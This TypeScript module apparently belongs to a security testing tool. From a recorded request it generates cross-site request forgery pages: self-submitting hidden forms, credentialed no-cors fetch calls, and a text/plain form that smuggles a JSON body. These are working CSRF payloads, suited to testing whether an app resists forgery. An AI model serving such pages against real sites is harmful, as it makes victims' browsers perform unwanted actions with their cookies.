/** Pages that another site would serve to write with the cookie of whoever opens them: by a form that sends itself, and by fetch. */
import { jsonOf, type Members } from '../../model/answer.ts';

/** What a page of the app sends. */
export interface Honest {
  readonly method: string;
  readonly url: string;
  readonly type: string;
  readonly body: string;
}

export interface Forged {
  /** In a sentence: how it is sent. */
  readonly way: string;
  readonly html: string;
}

type Field = readonly [name: string, value: string];

const inAttribute = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
/** In a script of a page: nothing of it ends the script. */
const inScript = (value: unknown): string => JSON.stringify(value).replaceAll('<', '\\u003c');

const page = (body: string): string => `<!doctype html><meta charset="utf-8"><title>Another site</title>${body}`;

function form(url: string, enctype: string, fields: readonly Field[]): string {
  const inputs = fields.map(([n, v]) => `<input type="hidden" name="${inAttribute(n)}" value="${inAttribute(v)}">`);
  return page(
    `<form method="post" action="${inAttribute(url)}" enctype="${enctype}">${inputs.join('')}</form><script>HTMLFormElement.prototype.submit.call(document.forms[0])</script>`,
  );
}

const fetching = (url: string, init: Record<string, unknown>): string =>
  page(
    `<script>fetch(${inScript(url)}, ${inScript({ credentials: 'include', ...init })}).catch(() => undefined)</script>`,
  );

/** The text fields of a body of multipart/form-data (RFC 7578); undefined where it holds a file, which no page can send by itself. */
function multipart({ type, body }: Honest): Field[] | undefined {
  const boundary = /boundary="?([^";]+)/i.exec(type)?.[1];
  if (!boundary) return undefined;
  const parts = body.split(`--${boundary}`).slice(1, -1);
  const fields = parts.map((part) => {
    const [head = '', ...rest] = part.split('\r\n\r\n');
    const name = /name="([^"]*)"/i.exec(head)?.[1];
    return name === undefined || /filename/i.test(head)
      ? undefined
      : ([name, rest.join('\r\n\r\n').replace(/\r\n$/, '')] as const);
  });
  return fields.every((field) => field !== undefined) ? fields : undefined;
}

/** What the other site does with a field of the form: leaves it out, or has it from a page of its own. */
export type Replaced = Readonly<Record<string, string | undefined>>;

const replacing = (fields: readonly Field[], by: Replaced): Field[] =>
  fields.flatMap(([name, value]): Field[] => {
    if (!(name in by)) return [[name, value]];
    const other = by[name];
    return other === undefined ? [] : [[name, other]];
  });

/** The fields of a form as it was sent; undefined for any other body. */
export const fieldsOf = (honest: Honest): Field[] | undefined =>
  /x-www-form-urlencoded/i.test(honest.type)
    ? [...new URLSearchParams(honest.body)]
    : /multipart\/form-data/i.test(honest.type)
      ? multipart(honest)
      : undefined;

/** The ways in which another site can send a form: what it has not is left out, or is its own. A form carries all the cookies that a fetch does, and more. */
export function forgedForms(honest: Honest, tokens: Replaced, own: boolean): Forged[] {
  const fields = replacing(fieldsOf(honest) ?? [], tokens);
  const enctype = /multipart/i.test(honest.type) ? 'multipart/form-data' : 'application/x-www-form-urlencoded';
  if (honest.method !== 'POST') return [];
  const sent = form(honest.url, enctype, fields);
  if (own) return [{ way: `a form (${enctype}) with tokens of its own`, html: sent }];
  const headers = { 'content-type': 'application/x-www-form-urlencoded' };
  const body = new URLSearchParams(fields.map(([name, value]) => [name, value])).toString();
  return [
    { way: `a form (${enctype})`, html: sent },
    {
      way: 'fetch with credentials (application/x-www-form-urlencoded, no-cors)',
      html: fetching(honest.url, { method: 'POST', mode: 'no-cors', headers, body }),
    },
  ];
}

/** The ways in which another site can send JSON: as text, as a form with the same fields, and by asking first whether it may (CORS). */
export function forgedJson(honest: Honest): Forged[] {
  const { url, method, body } = honest;
  const value = jsonOf(body);
  if (typeof value !== 'object' || value === null) return [];
  const asking = {
    way: 'fetch with credentials (application/json, after a preflight)',
    html: fetching(url, { method, mode: 'cors', headers: { 'content-type': 'application/json' }, body }),
  };
  if (method !== 'POST') return [asking];
  const members = Array.isArray(value) ? [] : Object.entries(value as Members);
  const flat = members.some(([, one]) => one !== null && typeof one === 'object')
    ? []
    : members.map(([name, one]): Field => [name, String(one)]);
  // A form sends name=value: the sign between them is hidden in a member that nobody asks for.
  const ends = body.trimEnd().endsWith('}') && members.length > 0;
  const open = ends ? `${body.trimEnd().slice(0, -1)},"_":"` : body;
  return [
    ...(ends ? [{ way: 'a form (text/plain that is JSON)', html: form(url, 'text/plain', [[open, '"}']]) }] : []),
    ...(flat.length
      ? [
          {
            way: 'a form (application/x-www-form-urlencoded)',
            html: form(url, 'application/x-www-form-urlencoded', flat),
          },
        ]
      : []),
    {
      way: 'fetch with credentials (text/plain that is JSON, no-cors)',
      html: fetching(url, { method, mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body }),
    },
    asking,
  ];
}
